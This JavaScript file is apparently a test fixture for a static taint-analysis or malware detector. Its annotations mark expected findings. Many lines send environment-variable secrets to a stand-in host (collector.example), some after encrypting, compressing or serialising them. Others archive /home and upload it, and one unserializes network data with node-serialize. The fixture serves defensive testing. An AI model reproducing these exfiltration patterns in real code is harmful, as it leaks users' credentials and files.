// Data on its way: buffers, streams, crypto, compression, archives, serialisers, helpers.
const AdmZip = require("adm-zip");
const archiver = require("archiver");
const axios = require("axios");
const cheerio = require("cheerio");
const crypto = require("crypto");
const cryptojs = require("crypto-js");
const dayjs = require("dayjs");
const FormData = require("form-data");
const fs = require("fs");
const _ = require("lodash");
const nodeSerialize = require("node-serialize");
const qs = require("qs");
const request = require("request");
const stream = require("stream");
const tar = require("tar");
const url = require("url");
const util = require("util");
const xml2js = require("xml2js");
const yaml = require("js-yaml");
const zlib = require("zlib");
const { StringDecoder } = require("string_decoder");

const U = "https://collector.example/u";

function buffers() {
  axios.post(U, Buffer.from(process.env.T)); //~ source(ENVIRONMENT) f1, sink(egress.http) f1, finding(traced) f1
  axios.post(U, Buffer.from("ping")); //~ ok
  const target = Buffer.alloc(9);
  Buffer.from(process.env.T).copy(target); //~ source(ENVIRONMENT) f2
  axios.post(U, target); //~ sink(egress.http) f2, finding(traced) f2
  const quiet = Buffer.alloc(9);
  Buffer.from("ping").copy(quiet); //~ ok
  axios.post(U, quiet); //~ ok
  axios.post(U, Buffer.from(process.env.T).readUInt8(0)); //~ source(ENVIRONMENT) f3, sink(egress.http) f3, finding(traced) f3
  axios.post(U, Buffer.from("ping").readUInt8(0)); //~ ok
  const written = Buffer.alloc(9);
  written.writeUInt8(process.env.T, 0); //~ source(ENVIRONMENT) f4
  axios.post(U, written); //~ sink(egress.http) f4, finding(traced) f4
  Buffer.alloc(9).writeUInt8(1, 0); //~ ok
}

function streams(socket) {
  socket.end(process.env.T); //~ source(ENVIRONMENT) f5
  axios.post(U, socket); //~ sink(egress.http) f5, finding(traced) f5
  new stream.PassThrough().end("ping"); //~ ok
  const readable = stream.Readable.from([process.env.T]); //~ source(ENVIRONMENT) f6
  axios.post(U, readable.read()); //~ sink(egress.http) f6, finding(traced) f6
  axios.post(U, stream.Readable.from(["ping"]).read()); //~ ok
  const decoder = new StringDecoder("utf8");
  axios.post(U, decoder.write(process.env.T)); //~ source(ENVIRONMENT) f7, sink(egress.http) f7, finding(traced) f7
  axios.post(U, new StringDecoder("utf8").write("ping")); //~ ok
}

function texts() {
  axios.post(U, util.format("%s", process.env.T)); //~ source(ENVIRONMENT) f8, sink(egress.http) f8, finding(traced) f8
  axios.post(U, util.format("%s", 1)); //~ ok
  axios.post(U, util.isDeepStrictEqual(process.env.T, "x")); //~ ok
  axios.post(U, qs.stringify({ t: process.env.T })); //~ source(ENVIRONMENT) f9, sink(egress.http) f9, finding(traced) f9
  axios.post(U, qs.stringify({ t: 1 })); //~ ok
  axios.post(U, qs.parse(process.env.T).t); //~ source(ENVIRONMENT) f10, sink(egress.http) f10, finding(traced) f10
  axios.post(U, qs.parse("t=1").t); //~ ok
  axios.post(U, url.parse(process.env.T).host); //~ source(ENVIRONMENT) f11, sink(egress.http) f11, finding(traced) f11
  axios.post(U, url.parse(U).host); //~ ok
  axios.post(U, new URLSearchParams({ t: process.env.T })); //~ source(ENVIRONMENT) f12, sink(egress.http) f12, finding(traced) f12
  axios.post(U, new URLSearchParams({ t: 1 })); //~ ok
}

async function encrypted() {
  const cipher = crypto.createCipheriv("aes-256-cbc", "k", "iv"); //~ capability(CRYPTO)
  axios.post(U, cipher.update(process.env.T)); //~ source(ENVIRONMENT) f13, sink(egress.http) f13, finding(traced) f13
  const other = crypto.createCipheriv("aes-256-cbc", "k", "iv");
  other.update(process.env.T); //~ source(ENVIRONMENT) f14
  axios.post(U, other.final()); //~ sink(egress.http) f14, finding(traced) f14
  const quiet = crypto.createCipheriv("aes-256-cbc", "k", "iv"); //~ ok
  axios.post(U, quiet.update("ping")); //~ ok
  axios.post(U, quiet.final()); //~ ok
  axios.post(U, crypto.publicEncrypt("pem", process.env.T)); //~ source(ENVIRONMENT) f15, sink(egress.http) f15, finding(traced) f15, capability(CRYPTO)
  axios.post(U, crypto.publicEncrypt("pem", "ping")); //~ ok
  axios.post(U, await crypto.subtle.encrypt({}, null, process.env.T)); //~ source(ENVIRONMENT) f16, sink(egress.http) f16, finding(traced) f16, capability(CRYPTO)
  axios.post(U, await crypto.subtle.encrypt({}, null, "ping")); //~ ok
  axios.post(U, await crypto.subtle.digest(process.env.T, "x")); //~ capability(CRYPTO)
  axios.post(U, await crypto.subtle.digest("SHA-1", process.env.T)); //~ ok
  axios.post(U, crypto.createHash("sha1").update(process.env.T).digest("hex")); //~ capability(CRYPTO)
  axios.post(U, crypto.createHash("sha1").update(process.env.T)); //~ ok
  axios.post(U, crypto.randomBytes(process.env.T)); //~ ok
  axios.post(U, cryptojs.AES.encrypt(process.env.T, "k")); //~ source(ENVIRONMENT) f17, sink(egress.http) f17, finding(traced) f17
  axios.post(U, cryptojs.AES.encrypt("ping", "k")); //~ ok
}

function compressed() {
  axios.post(U, zlib.gzipSync(process.env.T)); //~ source(ENVIRONMENT) f18, sink(egress.http) f18, finding(traced) f18
  axios.post(U, zlib.gzipSync("ping")); //~ ok
  zlib.gzip(process.env.T, (err, data) => { //~ source(ENVIRONMENT) f19
    axios.post(U, data); //~ sink(egress.http) f19, finding(traced) f19
  });
  zlib.gzip("ping", (err, data) => axios.post(U, data)); //~ ok
}

function forms() {
  const form = new FormData();
  form.append("t", process.env.T); //~ source(ENVIRONMENT) f20
  form.submit(U, () => null); //~ sink(egress.http) f20, finding(traced) f20, capability(NETWORK)
  const other = new FormData();
  other.append("t", process.env.T); //~ source(ENVIRONMENT) f21
  axios.post(U, other.getBuffer()); //~ sink(egress.http) f21, finding(traced) f21
  axios.post(U, {}, { headers: other.getHeaders() }); //~ ok
  const quiet = new FormData(); //~ ok
  quiet.append("t", "1"); //~ ok
  quiet.submit(U); //~ ok
  axios.post(U, quiet.getBuffer()); //~ ok
  axios.post(U, new (require("form-data"))()); //~ ok
}

function archives() {
  const zip = new AdmZip();
  zip.addFile("t", Buffer.from(process.env.T)); //~ source(ENVIRONMENT) f22
  axios.post(U, zip.toBuffer()); //~ sink(egress.http) f22, finding(traced) f22
  const folder = new AdmZip();
  folder.addLocalFolder("/home"); //~ source(FILE) f23, capability(FILES)
  folder.writeZip("/tmp/home.zip"); //~ capability(FILE_WRITE)
  axios.post(U, fs.createReadStream("/tmp/home.zip")); //~ sink(egress.http) f23, finding(traced) f23, source(FILE) f24, sink(egress.http) f24, finding(traced) f24
  const quiet = new (require("adm-zip"))(); //~ ok
  quiet.addFile("p", "ping"); //~ ok
  axios.post(U, quiet.toBuffer()); //~ ok
  axios.post(U, { has: quiet.addLocalFolder === undefined }); //~ ok
  quiet.writeZip("/tmp/quiet.zip"); //~ ok
}

function archived() {
  const archive = archiver("zip");
  archive.append(process.env.T, { name: "t" }); //~ source(ENVIRONMENT) f25
  archive.pipe(request(U)); //~ sink(egress.http) f25, finding(traced) f25
  const folder = archiver("zip");
  folder.directory("/home"); //~ source(FILE) f26, capability(FILES)
  folder.pipe(request(U)); //~ sink(egress.http) f26, finding(traced) f26
  const quiet = archiver("zip"); //~ ok
  quiet.append("ping", { name: "p" }); //~ ok
  axios.post(U, { has: quiet.directory === undefined }); //~ ok
  quiet.pipe(request(U)); //~ ok
}

async function tarred() {
  axios.post(U, tar.create({ gzip: true }, ["/home"])); //~ source(FILE) f27, sink(egress.http) f27, finding(traced) f27, capability(FILES)
  axios.post(U, { none: tar.create({}, ["/home"]) === null }); //~ ok
  axios.post(U, tar.extract(process.env.T)); //~ capability(FILE_WRITE)
  axios.post(U, tar.extract("x")); //~ ok
}

function serialised() {
  axios.post(U, yaml.dump({ t: process.env.T })); //~ source(ENVIRONMENT) f28, sink(egress.http) f28, finding(traced) f28
  axios.post(U, yaml.dump({ t: 1 })); //~ ok
  axios.post(U, yaml.load(process.env.T)); //~ source(ENVIRONMENT) f29, sink(egress.http) f29, finding(traced) f29
  axios.post(U, yaml.load("t: 1")); //~ ok
  xml2js.parseString(process.env.T, (err, result) => { //~ source(ENVIRONMENT) f30
    axios.post(U, result); //~ sink(egress.http) f30, finding(traced) f30
  });
  xml2js.parseString("<t/>", (err, result) => axios.post(U, result)); //~ ok
  axios.post(U, cheerio.load(process.env.T)); //~ source(ENVIRONMENT) f31, sink(egress.http) f31, finding(traced) f31
  axios.post(U, cheerio.load("<p>")); //~ ok
}

async function unserialised() {
  const { data } = await axios.get(U); //~ source(NETWORK) f32
  nodeSerialize.unserialize(data); //~ sink(exec.code) f32, finding(traced) f32, capability(DYNAMIC_CODE)
  nodeSerialize.unserialize("{}"); //~ ok
}

function helpers() {
  axios.post(U, _.merge({}, { t: process.env.T })); //~ source(ENVIRONMENT) f33, sink(egress.http) f33, finding(traced) f33
  axios.post(U, _.merge({}, { t: 1 })); //~ ok
  axios.post(U, _.pick(process.env, ["T"])); //~ source(ENVIRONMENT) f34, sink(egress.http) f34, finding(traced) f34
  axios.post(U, _.pick({ t: 1 }, ["t"])); //~ ok
  const target = {};
  _.set(target, "t", process.env.T); //~ source(ENVIRONMENT) f35
  axios.post(U, target); //~ sink(egress.http) f35, finding(traced) f35
  const quiet = {};
  _.set(quiet, "t", 1); //~ ok
  axios.post(U, quiet); //~ ok
  _.forEach([process.env.T], (one) => axios.post(U, one)); //~ source(ENVIRONMENT) f36, sink(egress.http) f36, finding(traced) f36
  _.forEach(["ping"], (one) => axios.post(U, one)); //~ ok
  axios.post(U, _.map(["T"], (name) => process.env[name])); //~ source(ENVIRONMENT) f37, sink(egress.http) f37, finding(traced) f37
  axios.post(U, _.map(["T"], (name) => name)); //~ ok
  axios.post(U, _.filter([process.env.T], (one) => one)); //~ source(ENVIRONMENT) f38, sink(egress.http) f38, finding(traced) f38
  axios.post(U, _.filter(["ping"], (one) => one)); //~ ok
  axios.post(U, _.find([process.env.T], (one) => one)); //~ source(ENVIRONMENT) f39, sink(egress.http) f39, finding(traced) f39
  axios.post(U, _.find(["ping"], (one) => one)); //~ ok
  axios.post(U, _.once(() => process.env.T)()); //~ source(ENVIRONMENT) f40, sink(egress.http) f40, finding(traced) f40
  axios.post(U, _.once(() => "ping")()); //~ ok
  axios.post(U, dayjs(process.env.T)); //~ ok
}
